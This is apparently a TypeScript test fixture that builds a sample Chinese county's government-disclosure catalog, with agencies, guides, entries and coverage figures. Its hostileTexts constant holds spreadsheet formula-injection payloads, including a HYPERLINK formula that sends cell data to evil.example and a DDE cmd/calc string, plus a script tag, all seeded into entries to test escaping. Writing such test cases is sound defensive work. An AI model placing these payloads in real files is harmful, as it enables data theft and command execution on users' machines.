import type {
  AdoptedDomain,
  Agency,
  AgencyReference,
  Audience,
  Catalog,
  Channel,
  ChannelUse,
  Entry,
  Exemption,
  Guide,
  GuideItem,
  LineageRecord,
  Participation,
  PublishedEntry,
} from '../../src/model/catalog.js';
import { isPublished } from '../../src/model/catalog.js';
import type { Cell, CellStatus, Coverage, Figures, Row, Split } from '../../src/model/coverage.js';
import { plainLook } from '../../src/model/look.js';
import type { DatedPage, FileType, PageFile, Pages } from '../../src/model/page.js';
import { filePlace, nodePlace } from '../../src/model/place.js';
import type { Block, Inline, LinkTarget } from '../../src/model/prose.js';
import type { Publication } from '../../src/model/publication.js';
import { type Change, type Level, levelNames, levels } from '../../src/model/vocabulary.js';

/** Texts a spreadsheet would take for formulas, and one with markup: they stand in the sample as they are. */
export const hostileTexts = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  plus: '+86-000-12345678 转政务公开办',
  minus: '-1号公告及其附件',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+2',
  markup: '<script>alert("公开")</script>&amp;“引号”',
} as const;

/** A name and a content that need many lines in any column. */
export const longText =
  '普通中小学、特殊教育学校招生入学的报名时间、报名地点、应交材料、资格审核、录取办法、分班结果、咨询电话、监督电话以及其他与适龄儿童少年入学有关的事项,' +
  '并附Annual_Report_With_A_Very_Long_Unbroken_File_Name_2024_final_version.pdf全文';

/** A county with three domains, six agencies (two townships, one village, one without entries) and eleven entries, two of them drafts. */
export function samplePublication(overrides: Partial<Publication> = {}): Publication {
  const catalog = overrides.catalog ?? sampleCatalog();
  const order = new Map(catalog.domains.map(({ name }, index) => [name, index]));
  const entries: PublishedEntry[] = catalog.entries
    .filter(isPublished)
    .sort((a, b) => (order.get(a.domain) ?? Infinity) - (order.get(b.domain) ?? Infinity));
  return { catalog, coverage: sampleCoverage(), entries, date: '2024-05-20', ...overrides };
}

/** The publication as it would be if the county asked for traditional characters. */
export function inBoth(publication: Publication): Publication {
  const { catalog } = publication;
  return { ...publication, catalog: { ...catalog, county: { ...catalog.county, variants: ['zh-Hant'] } } };
}

export function sampleCatalog(overrides: Partial<Catalog> = {}): Catalog {
  return {
    county: {
      name: '示例县',
      code: '990001',
      date: '2024-05-20',
      office: '示例县人民政府办公室',
      threshold: null,
      listColumns: [],
      variants: [],
      site: {
        title: '示例县人民政府门户网站',
        url: 'https://www.example.gov.cn/',
        organizer: '示例县人民政府',
        operator: '示例县人民政府办公室',
        phone: '0000-1234567',
        siteCode: '9900010001',
        icp: null,
        police: null,
        license: null,
      },
      place: nodePlace('gongkai.yaml', ''),
    },
    statutoryLimits: [],
    holidays: [],
    pages: samplePages(),
    traditional: { kept: [], spellings: new Map(), forms: new Map() },
    agencies: sampleAgencies(),
    groups: [
      {
        name: '乡镇',
        members: [reference('东河镇', 'donghe'), reference('西山乡', 'xishan')],
        place: filePlace('agencies.yaml'),
      },
    ],
    columns: [
      {
        id: 'zhaosheng',
        name: '招生管理',
        url: 'https://www.example.gov.cn/zsgl/',
        place: filePlace('columns.yaml'),
      },
    ],
    domains: [
      adopted('义务教育', reference('县教育和体育局', 'jytyj')),
      adopted('安全生产', reference('县应急管理局', 'yjglj')),
      adopted('涉农补贴', reference('县农业农村局', 'nyncj')),
    ],
    guides: sampleGuides(),
    channels: sampleChannels(),
    instruments: [
      {
        id: 'open-government-information',
        title: '中华人民共和国政府信息公开条例',
        number: '国务院令第711号',
        issuer: '国务院',
        year: 2019,
        edition: null,
        aliases: ['政府信息公开条例'],
        validity: 'in-force',
        effective: '2019-05-15',
        repealed: null,
        successor: null,
      },
    ],
    entries: sampleEntries(),
    exemptions: sampleExemptions(),
    look: plainLook,
    lineage: sampleLineage(),
    participation: sampleParticipation(),
    broken: new Set(),
    ...overrides,
  };
}

/** Two pages of one column, one of the other, the guide to requests; every kind of block, link and file. */
export function samplePages(): Pages {
  const address = (own: string): LinkTarget => ({ kind: 'address', address: own });
  const link = (target: LinkTarget, text: string): Inline => ({
    kind: 'link',
    target,
    inlines: [plain(text)],
  });
  const body: readonly Block[] = [
    paragraph(plain('各乡镇人民政府：'), { kind: 'break' }, { kind: 'strong', inlines: [plain('请照办。')] }),
    { kind: 'heading', depth: 1, anchor: 's-1', inlines: [plain('一、安排')] },
    {
      kind: 'list',
      start: 3,
      items: [[{ kind: 'paragraph', tight: true, inlines: [plain('第三步')] }], [paragraph(plain('第四步'))]],
    },
    { kind: 'heading', depth: 2, anchor: 's-2', inlines: [plain('（一）进度')] },
    {
      kind: 'table',
      head: [[plain('时间')], []],
      rows: [[[plain('6月底前')], [{ kind: 'code', text: 'a&b' }]]],
    },
    { kind: 'quote', blocks: [{ kind: 'list', start: null, items: [[paragraph(plain('群众的话'))]] }] },
    { kind: 'code', text: 'a < b' },
    { kind: 'rule' },
    paragraph(
      link(address('https://other.example/a?b=1&c=2'), '别处'),
      link(address('mailto:a@b.example'), '邮箱'),
      link({ kind: 'page', column: 'guidance', id: 'yaoqiu' }, '要求'),
      link({ kind: 'page', column: null, id: 'on-request' }, '申请'),
      link({ kind: 'file', file: 0 }, '方案'),
      link({ kind: 'heading', anchor: 's-1' }, '安排'),
      { kind: 'image', file: 1, alt: '会议现场', caption: '图1' },
      { kind: 'emphasis', inlines: [{ kind: 'struck', inlines: [plain('旧')] }] },
    ),
  ];
  return {
    columns: {
      progress: [
        samplePage({
          id: 'fangan',
          title: '试点方案',
          number: '示政办〔2024〕1号',
          summary: '一句话说明',
          keywords: ['试点'],
          files: [sampleFile('方案', 'pdf', true), sampleFile('会议', 'png', false)],
          body,
        }),
        samplePage({ id: '2023-12-31-0a1b2c3d', title: '年度考核', date: '2023-12-31' }),
      ],
      guidance: [samplePage({ id: 'yaoqiu', title: '上级要求', source: '示例市人民政府办公室' })],
    },
    onRequest: samplePage({
      id: 'on-request',
      title: '依申请公开指南',
      files: [sampleFile('申请表', 'docx', true)],
    }),
  };
}

export function samplePage(overrides: Partial<DatedPage> = {}): DatedPage {
  return {
    id: 'page',
    title: '网页',
    date: '2024-05-10',
    source: null,
    number: null,
    summary: null,
    keywords: [],
    files: [],
    body: [paragraph(plain('正文。'))],
    place: filePlace('pages/工作推进/网页.md'),
    ...overrides,
  };
}

export function paragraph(...inlines: Inline[]): Block {
  return { kind: 'paragraph', tight: false, inlines };
}

export function plain(text: string): Inline {
  return { kind: 'text', text };
}

function sampleFile(name: string, type: FileType, attached: boolean): PageFile {
  const bytes =
    type === 'png' ? new Uint8Array(Buffer.from(onePixel, 'base64')) : new TextEncoder().encode(name);
  return {
    name,
    type,
    attached,
    held: { path: `pages/${name}.${type}`, size: bytes.byteLength, read: () => bytes },
  };
}

const onePixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** A complete entry of the sample county, changed as wished. */
export function sampleEntry(overrides: Partial<Entry> = {}): Entry {
  return {
    id: 'YWJY-0101',
    domain: '义务教育',
    category: ['政策文件'],
    name: '法律法规',
    content: ['有关义务教育的法律、行政法规', '部门规章'],
    basis: ['《中华人民共和国政府信息公开条例》(国务院令第711号)', '《中华人民共和国义务教育法》'],
    timeLimit: '自信息形成或者变更之日起20个工作日内',
    subject: [reference('县教育和体育局', 'jytyj')],
    responsible: [],
    method: 'proactive',
    channels: [use('政府网站', 'website')],
    audience: { kind: 'public' },
    levels: ['county'],
    stage: null,
    column: null,
    guide: [],
    fulfils: [],
    equivalents: [],
    status: 'final',
    review: null,
    remarks: null,
    withheldReason: null,
    sharedId: null,
    place: nodePlace('entries/义务教育.yaml', '/items/0'),
    places: {},
    ...overrides,
  };
}

export function use(text: string, channel: string | null, detail: string | null = null): ChannelUse {
  return { text, channel, detail };
}

export function reference(text: string, ...agencies: string[]): AgencyReference {
  return { text, agencies, place: filePlace('entries/sample.yaml') };
}

function adopted(name: string, lead: AgencyReference): AdoptedDomain {
  return { name, lead, threshold: null, place: filePlace('gongkai.yaml') };
}

function sampleAgencies(): Agency[] {
  const agency = (id: string, name: string, level: Level, extra: Partial<Agency> = {}): Agency => ({
    id,
    name,
    aliases: [],
    level,
    code: null,
    phone: null,
    address: null,
    url: null,
    place: filePlace('agencies.yaml'),
    ...extra,
  });
  return [
    agency('jytyj', '示例县教育和体育局', 'county', {
      aliases: ['县教育和体育局', '县教体局'],
      code: '11990001MB0000001A',
      phone: '0000-7654321',
      address: '示例县文化路1号',
      url: 'https://www.example.gov.cn/jytyj/',
    }),
    agency('yjglj', '示例县应急管理局', 'county', { aliases: ['县应急管理局'] }),
    agency('donghe', '东河镇人民政府', 'township', { aliases: ['东河镇'] }),
    agency('xishan', '西山乡人民政府', 'township', { aliases: ['西山乡'] }),
    agency('liushu', '东河镇柳树村村民委员会', 'village', { aliases: ['柳树村'] }),
    // An agency of the register that discloses nothing: it has no list.
    agency('nyncj', '示例县农业农村局', 'county', { aliases: ['县农业农村局'] }),
  ];
}

function sampleChannels(): Channel[] {
  const names: readonly (readonly [string, string])[] = [
    ['website', '政府网站'],
    ['gazette', '政府公报'],
    ['new-media', '两微一端'],
    ['press-conference', '发布会/听证会'],
    ['broadcast', '广播电视'],
    ['print', '纸质媒体'],
    ['reading-point', '公开查阅点'],
    ['service-center', '政务服务中心'],
    ['service-station', '便民服务站'],
    ['on-site', '入户/现场'],
    ['notice-board', '社区/企事业单位/村公示栏(电子屏)'],
    ['targeted', '精准推送'],
    ['other', '其他'],
  ];
  return names.map(([id, name]) => ({ id, name, aliases: [] }));
}

function sampleGuides(): Guide[] {
  const guide = (domain: string, id: string, slug: string, order: number, items: GuideItem[]): Guide => ({
    domain,
    id,
    slug,
    order,
    issuer: '国务院部门',
    document: { title: `《${domain}领域基层政务公开标准指引》`, number: null, issued: null, attested: false },
    notes: [],
    replaces: null,
    parent: null,
    items,
    place: filePlace(`guides/${slug}.yaml`),
  });
  const item = (
    domain: string,
    id: string,
    category: string,
    name: string,
    extra: Partial<GuideItem> = {},
  ): GuideItem => ({
    id,
    domain,
    category: [category],
    name,
    content: ['标准要求的内容'],
    basis: ['《中华人民共和国政府信息公开条例》(国务院令第711号)'],
    timeLimit: '自信息形成或者变更之日起20个工作日内',
    subject: '县级有关部门',
    channels: [use('政府网站', 'website')],
    channelRule: 'any',
    audience: { kind: 'public' },
    method: 'proactive',
    levels: ['county'],
    attestation: 'seen',
    unseen: [],
    sources: [],
    remarks: null,
    place: filePlace('guides/sample.yaml'),
    ...extra,
  });
  return [
    guide('义务教育', 'YWJY', 'compulsory-education', 2, [
      item('义务教育', 'YWJY-0101', '政策文件', '法律法规'),
      item('义务教育', 'YWJY-0201', '招生管理', '招生政策'),
      item('义务教育', 'YWJY-0301', '教师管理', '教师评优评先', { attestation: 'recalled-medium' }),
    ]),
    guide('安全生产', 'AQSC', 'work-safety', 19, [
      item('安全生产', 'AQSC-0101', '政策文件', '法律法规', { levels: ['county', 'township'] }),
      item('安全生产', 'AQSC-0201', '监督检查', '行政处罚'),
    ]),
    guide('涉农补贴', 'SNBT', 'agricultural-subsidies', 23, [
      item('涉农补贴', 'SNBT-0101', '补贴资金', '农机购置补贴', { levels: ['township', 'village'] }),
      item('涉农补贴', 'SNBT-0102', '补贴资金', '=耕地地力保护', { levels: ['county'] }),
    ]),
  ];
}

function sampleEntries(): Entry[] {
  const applicants: Audience = { kind: 'group', group: '申请人及利害关系人' };
  const safety = { domain: '安全生产', subject: [reference('县应急管理局', 'yjglj')] } as const;
  const farming = { domain: '涉农补贴', place: nodePlace('entries/涉农补贴.yaml', '/items/0') } as const;
  const townships = [reference('东河镇', 'donghe'), reference('西山乡', 'xishan')];
  return [
    sampleEntry({ fulfils: ['YWJY-0101'], guide: ['YWJY-0101'] }),
    sampleEntry({
      id: 'YWJY-0102',
      name: '规范性文件',
      content: [hostileTexts.formula, hostileTexts.plus, hostileTexts.minus],
      channels: [
        use('政府网站', 'website'),
        use('两微一端', 'new-media'),
        use('其他:家长群', 'other', '家长群'),
      ],
      stage: 'decision',
      remarks: hostileTexts.at,
    }),
    sampleEntry({
      id: 'YWJY-0201',
      category: ['招生管理', '公办学校'],
      name: '招生政策',
      content: [longText, longText, '招生咨询电话'],
      timeLimit: '招生政策制定或调整之日起5个工作日内',
      channels: [
        use('政府网站', 'website'),
        use('公开查阅点', 'reading-point'),
        use('社区公示栏', 'notice-board'),
      ],
      audience: { kind: 'group', group: '适龄儿童少年及其父母或者其他法定监护人' },
      responsible: [reference('基础教育股')],
      column: 'zhaosheng',
      guide: ['YWJY-0201'],
      fulfils: ['YWJY-0201'],
      review: '已审核',
    }),
    sampleEntry({
      id: 'YWJY-0202',
      category: ['招生管理', '公办学校', '特殊群体'],
      name: hostileTexts.minus,
      content: [hostileTexts.at],
      method: 'on-request',
      audience: applicants,
    }),
    sampleEntry({
      id: 'YWJY-0203',
      category: ['招生管理'],
      name: '未成年人学籍档案',
      content: ['学籍档案中的个人信息'],
      method: 'withheld',
      channels: [use('其他:不对外提供', 'other', '不对外提供')],
      audience: { kind: 'group', group: '本人及其监护人' },
      withheldReason: '涉及个人隐私（《政府信息公开条例》第十五条）',
      remarks: '本人可以查询',
      stage: 'management',
    }),
    sampleEntry({
      id: 'AQSC-0101',
      ...safety,
      subject: [reference('县应急管理局', 'yjglj'), reference('乡镇', 'donghe', 'xishan')],
      levels: ['county', 'township'],
      channels: sampleChannels().map(({ id, name }) => use(name, id)),
      fulfils: ['AQSC-0101'],
      stage: 'execution',
    }),
    sampleEntry({
      id: 'AQSC-0201',
      ...safety,
      category: ['监督检查'],
      name: hostileTexts.markup,
      content: ['行政处罚决定书文号', '处罚事由', '处罚结果'],
      timeLimit: '自作出行政处罚决定之日起7个工作日内',
      stage: 'result',
    }),
    sampleEntry({
      id: 'AQSC-0202',
      ...safety,
      category: ['监督检查'],
      name: '草拟中的事项',
      basis: [],
      status: 'draft',
    }),
    sampleEntry({
      id: 'SNBT-0101',
      ...farming,
      category: ['补贴资金'],
      name: '农机购置补贴',
      content: [hostileTexts.tab, '补贴对象、范围、标准', '申请程序\n第一步 申请\n第二步 核验'],
      subject: townships,
      levels: ['township', 'village'],
      channels: [use('村公示栏', 'notice-board'), use('入户/现场', 'on-site')],
      fulfils: ['SNBT-0101'],
      stage: 'service',
    }),
    sampleEntry({
      id: 'SNBT-0103',
      ...farming,
      category: [hostileTexts.plus],
      name: longText,
      content: ['补贴发放结果'],
      subject: [reference('柳树村', 'liushu')],
      levels: ['village'],
      method: 'on-request',
      audience: applicants,
    }),
    sampleEntry({
      id: 'SNBT-0102',
      ...farming,
      category: ['补贴资金'],
      name: '耕地地力保护',
      status: 'draft',
    }),
  ];
}

/** One record of each change; one of them leads to a draft, which the public is not told of. */
function sampleLineage(): LineageRecord[] {
  const record = (
    change: Change,
    from: string,
    to: readonly string[],
    extra: Partial<LineageRecord> = {},
  ): LineageRecord => ({
    change,
    from,
    formerName: null,
    members: null,
    to,
    date: '2024-01-02',
    reason: null,
    place: nodePlace('lineage.yaml', '/lineage/0'),
    ...extra,
  });
  return [
    record('renamed', 'YWJY-8001', ['YWJY-0201'], { formerName: '招生办法' }),
    record('merged', 'YWJY-8002', ['YWJY-0201'], { date: '2023-12-31', reason: '与招生政策一并公开' }),
    record('split', 'AQSC-8001', ['AQSC-0101', 'AQSC-0201'], { formerName: '监管信息' }),
    record('renamed', 'AQSC-8002', ['AQSC-0202']),
    record('withdrawn', 'SNBT-8001', [], {
      members: ['donghe', 'xishan'],
      date: '2024-05-01',
      reason: '补贴政策到期，不再产生这类信息',
    }),
  ];
}

function sampleParticipation(): Participation[] {
  const place = nodePlace('participation.yaml', '/participation/0');
  return [
    {
      name: '学区划分调整',
      ways: ['座谈会', '网络征集'],
      period: '每年4月，方案送审前',
      responsible: [reference('县教育和体育局', 'jytyj')],
      phone: null,
      address: null,
      url: 'https://www.example.gov.cn/zhengji/',
      remarks: '报名方式随公告公布',
      place,
    },
    {
      name: '应急预案修订',
      ways: ['书面意见'],
      period: '征求意见期间，不少于30日',
      responsible: [reference('县应急管理局', 'yjglj')],
      phone: '0000-7654322',
      address: '示例县文化路2号',
      url: null,
      remarks: null,
      place,
    },
  ];
}

function sampleExemptions(): Exemption[] {
  return [
    {
      guide: ['AQSC-0201'],
      waiver: null,
      levels: [],
      agencies: [],
      reason: '行政处罚权已相对集中由县综合行政执法局行使',
      basis: ['《示例县相对集中行政处罚权实施方案》'],
      approver: '示例县人民政府办公室',
      approved: '2024-01-10',
      expires: '2025-01-09',
      place: nodePlace('exemptions.yaml', '/exemptions/0'),
    },
  ];
}

function sampleCoverage(): Coverage {
  const cell = (
    item: GuideItem,
    level: Level,
    agency: string,
    status: CellStatus,
    extra: Partial<Cell> = {},
  ): Cell => ({
    item: item.id,
    category: item.category,
    name: item.name,
    domain: item.domain,
    level,
    agency,
    attested: item.attestation === 'seen',
    status,
    entries: [],
    shortfalls: [],
    undecided: [],
    exemption: null,
    ...extra,
  });
  const items = new Map(
    sampleGuides().flatMap((guide) => guide.items.map((item) => [item.id, item] as const)),
  );
  const item = (id: string): GuideItem => {
    const found = items.get(id);
    if (found === undefined) throw new Error(`The sample has no guide item ${id}.`);
    return found;
  };
  const exemption = {
    reason: '行政处罚权已相对集中由县综合行政执法局行使',
    approver: '示例县人民政府办公室',
    expires: '2025-01-09',
    place: nodePlace('exemptions.yaml', '/exemptions/0'),
  };
  const cells: Cell[] = [
    cell(item('YWJY-0101'), 'county', 'jytyj', 'complete', { entries: ['YWJY-0101'] }),
    cell(item('YWJY-0201'), 'county', 'jytyj', 'complete', { entries: ['YWJY-0201'] }),
    cell(item('YWJY-0301'), 'county', 'jytyj', 'missing'),
    cell(item('AQSC-0101'), 'county', 'yjglj', 'complete', { entries: ['AQSC-0101'] }),
    cell(item('AQSC-0101'), 'township', 'donghe', 'complete', { entries: ['AQSC-0101'] }),
    cell(item('AQSC-0101'), 'township', 'xishan', 'missing'),
    cell(item('AQSC-0201'), 'county', 'yjglj', 'exempt', { exemption }),
    cell(item('SNBT-0101'), 'township', 'donghe', 'complete', { entries: ['SNBT-0101'] }),
    cell(item('SNBT-0101'), 'township', 'xishan', 'complete', { entries: ['SNBT-0101'] }),
    cell(item('SNBT-0101'), 'village', 'liushu', 'missing'),
    cell(item('SNBT-0102'), 'county', 'nyncj', 'draft', { entries: ['SNBT-0102'] }),
  ];
  const names = new Map(sampleAgencies().map(({ id, name }) => [id, name]));
  return {
    date: '2024-05-20',
    cells,
    total: splitOf(cells),
    byDomain: rowsOf(
      cells,
      (each) => each.domain,
      (id) => id,
    ),
    byAgency: rowsOf(
      cells,
      (each) => each.agency,
      (id) => names.get(id) ?? id,
    ),
    byLevel: levels.map((level) => ({
      id: level,
      name: levelNames[level],
      ...splitOf(cells.filter((each) => each.level === level)),
    })),
    notAdopted: ['财政预决算', '公共法律服务'],
    ownGuides: [],
    localEntries: 4,
  };
}

function rowsOf(cells: readonly Cell[], key: (cell: Cell) => string, name: (id: string) => string): Row[] {
  return [...new Set(cells.map(key))].map((id) => ({
    id,
    name: name(id),
    ...splitOf(cells.filter((cell) => key(cell) === id)),
  }));
}

function splitOf(cells: readonly Cell[]): Split {
  return {
    attested: figuresOf(cells.filter((cell) => cell.attested)),
    unattested: figuresOf(cells.filter((cell) => !cell.attested)),
  };
}

function figuresOf(cells: readonly Cell[]): Figures {
  const count = (status: CellStatus) => cells.filter((cell) => cell.status === status).length;
  const [complete, partial, exempt] = [count('complete'), count('partial'), count('exempt')];
  return {
    required: cells.length,
    exempt,
    applicable: cells.length - exempt,
    covered: complete + partial,
    complete,
    partial,
    draft: count('draft'),
    missing: count('missing'),
  };
}
